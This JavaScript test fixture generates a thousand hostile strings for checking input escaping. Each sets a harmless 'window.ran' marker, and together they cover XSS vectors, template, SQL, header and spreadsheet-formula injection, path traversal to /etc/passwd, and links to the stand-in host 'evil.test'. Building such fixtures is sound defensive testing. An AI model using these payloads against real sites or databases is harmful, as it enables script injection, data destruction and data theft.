// A thousand hostile texts, always the same. Each would say `window.ran = <its number>` if anything took it for code.

/** How many there are. */
export const COUNT = 1000;

const SIGNS_OF_LONG = 10_000;

/** What sets the mark, in few signs: the names of people hold eighty. */
const mark = (n) => `window.ran=${n}`;

const TAGS = [
  (n) => `<script>${mark(n)}</script>`,
  (n) => `<SCRIPT>${mark(n)}</SCRIPT >`,
  (n) => `<script/x>${mark(n)}</script\n>`,
  (n) => `<scr<script>ipt>${mark(n)}</script>`,
  (n) => `<script\t>${mark(n)}//`,
  (n) => `<script src=data:,${mark(n)}></script>`,
  (n) => `<script src=//evil.test/${n}></script>`,
  (n) => `＜script＞${mark(n)}＜/script＞`,
];
const HANDLERS = [
  (n) => `<img src=x onerror=${mark(n)}>`,
  (n) => `<img/src=x/onerror=${mark(n)}//`,
  (n) => `<body onload=${mark(n)}>`,
  (n) => `<input autofocus onfocus=${mark(n)}>`,
  (n) => `<details open ontoggle=${mark(n)}>`,
  (n) => `<video><source onerror=${mark(n)}>`,
  (n) => `<p style=animation:x onanimationstart=${mark(n)}>`,
];
const LINKS = [
  (n) => `javascript:${mark(n)}`,
  (n) => `JaVaScRiPt:${mark(n)}`,
  (n) => `java\tscript:${mark(n)}`,
  (n) => `\u0001javascript:${mark(n)}`,
  (n) => `<a href=javascript:${mark(n)}>x</a>`,
  (n) => `data:text/html,<script>${mark(n)}</script>`,
  (n) => `<iframe src=javascript:${mark(n)}>`,
  (n) => `<base href=//evil.test/${n}/>`,
  (n) => `<meta http-equiv=refresh content=0;url=//evil.test/${n}>`,
  (n) => `//evil.test/${n}?${mark(n)}`,
  (n) => `/\\evil.test/${n}?${mark(n)}`,
];
const DRAWINGS = [
  (n) => `<svg onload=${mark(n)}>`,
  (n) => `<svg><script>${mark(n)}</script></svg>`,
  (n) => `<svg><a xlink:href=javascript:${mark(n)}><text>x`,
  (n) => `<math><mtext><img src=x onerror=${mark(n)}>`,
  (n) => `<svg><animate onbegin=${mark(n)} attributeName=x>`,
  (n) => `<math href=javascript:${mark(n)}>x</math>`,
];
const TEMPLATES = [
  (n) => `{{ ${mark(n)} }}`,
  (n) => `{% ${mark(n)} %}`,
  (n) => `{# ${mark(n)} #}{{7*7}}`,
  (n) => `\${${mark(n)}}`,
  (n) => `#{${mark(n)}}<%= ${mark(n)} %>`,
  (n) => `{{constructor.constructor('${mark(n)}')()}}`,
  (n) => `{}{0}{:?}%s%n ${mark(n)}`,
];
const ENTITIES = [
  (n) => `&lt;script&gt;${mark(n)}&lt;/script&gt;`,
  (n) => `&#60;img src=x onerror=${mark(n)}&#62;`,
  (n) => `&#x3c;svg onload=${mark(n)}&#x3e;`,
  (n) => `&amp;lt;script&amp;gt;${mark(n)}`,
  (n) => `&quot; onfocus=${mark(n)} x=&quot;`,
];
const CLOSINGS = [
  (n) => `" autofocus onfocus="${mark(n)}`,
  (n) => `' autofocus onfocus='${mark(n)}`,
  (n) => `"><script>${mark(n)}</script>`,
  (n) => `'><img src=x onerror=${mark(n)}>`,
  (n) => `</textarea><script>${mark(n)}</script>`,
  (n) => `</title><script>${mark(n)}</script>`,
  (n) => `--><script>${mark(n)}</script><!--`,
  (n) => `</option></select><img src=x onerror=${mark(n)}>`,
  (n) => `</script><script>${mark(n)}</script>`,
  (n) => `]]><script>${mark(n)}</script>`,
  (n) => `\`-${mark(n)}-\``,
];
const STYLES = [
  (n) => `<style>*{background:url(//evil.test/${n})}</style>`,
  (n) => `x:expression(${mark(n)})`,
  (n) => `";background:url(javascript:${mark(n)});x:"`,
  (n) => `<link rel=stylesheet href=//evil.test/${n}>`,
  (n) => `</style><script>${mark(n)}</script>`,
];
const DIRECTIONS = [
  (n) => `\u202e>tpircs/<${mark(n)}`,
  (n) => `\u2066<script>\u2069${mark(n)}`,
  (n) => `<scr\u200bipt>${mark(n)}</scr\u200bipt>`,
  (n) => `\u200f\u202d${mark(n)}\u202c`,
  (n) => `\ufeff\u2060${mark(n)}\u00ad`,
];
const CONTROLS = [
  (n) => `<scr\0ipt>${mark(n)}</scr\0ipt>`,
  (n) => `\0${mark(n)}`,
  (n) => `\u0007\u0008\u001b[31m${mark(n)}`,
  (n) => `\u007f\u0085${mark(n)}\u2028\u2029`,
  (n) => `<img src=x\u000conerror=${mark(n)}>`,
];
const HEADERS = [
  (n) => `x\r\nX-Ran: ${n}\r\n\r\n<script>${mark(n)}</script>`,
  (n) => `x\nSet-Cookie: ran=${n}; ${mark(n)}`,
  (n) => `x@exemple.test\r\nBcc: ${n}@evil.test ${mark(n)}`,
  (n) => `%0d%0aX-Ran:%20${n} ${mark(n)}`,
  (n) => `\u560d\u560aX-Ran: ${n} ${mark(n)}`,
];
const FORMULAS = ["=", "+", "-", "@", " =", "\t=", "\u00a0+", "\u200b=", "\u202e-", "＝", "＋", "－", "＠", "\r=", "\ufeff@"].map(
  (sign) => (n) => `${sign}HYPERLINK("//evil.test/${n}";"${mark(n)}")`,
);
const PILES = [
  (n) => `${"👩‍👩‍👧‍👦".repeat(2)}${mark(n)}`,
  (n) => `Z${"\u0301\u0316\u035b".repeat(12)}${mark(n)}`,
  (n) => `🏴󠁧󠁢󠁳󠁣󠁴󠁿${mark(n)}\u{e0041}`,
  (n) => `\u0e33\u0e33\u1e9e\ufdfd${mark(n)}\ufffe\uffff`,
];
const QUERIES = [
  (n) => `' OR '1'='1' -- ${mark(n)}`,
  (n) => `'); DROP TABLE person; -- ${mark(n)}`,
  (n) => `" OR ""=" ${mark(n)}`,
  (n) => `%_\\%' ESCAPE '${mark(n)}`,
  (n) => `$1 ?1 :a @p ${mark(n)}`,
];
const PATHS = [
  (n) => `../../../../etc/passwd?${mark(n)}`,
  (n) => `..\\..\\win.ini ${mark(n)}.csv`,
  (n) => `%2e%2e%2f%2e%2e%2f${mark(n)}`,
  (n) => `CON.csv;${mark(n)}`,
  (n) => `/dev/null\0.csv ${mark(n)}`,
];
const LONG = [
  (n) => `${`<img src=x onerror=${mark(n)}>`.repeat(400).slice(0, SIGNS_OF_LONG)}`,
  (n) => `${"a".repeat(SIGNS_OF_LONG)}<script>${mark(n)}</script>`,
  (n) => `${"\u202e".repeat(SIGNS_OF_LONG)}${mark(n)}`,
];

const FAMILIES = [
  TAGS, HANDLERS, LINKS, DRAWINGS, TEMPLATES, ENTITIES, CLOSINGS, STYLES, DIRECTIONS, CONTROLS, HEADERS, FORMULAS, PILES,
  QUERIES, PATHS,
];

/** Every text, by its number. One in forty is very long; the others take the families in turn, and fit the shortest field. */
export const texts = Array.from({ length: COUNT }, (_, n) => {
  if (n % 40 === 39) return LONG[Math.floor(n / 40) % LONG.length](n);
  const family = FAMILIES[n % FAMILIES.length];
  return family[Math.floor(n / FAMILIES.length) % family.length](n);
});
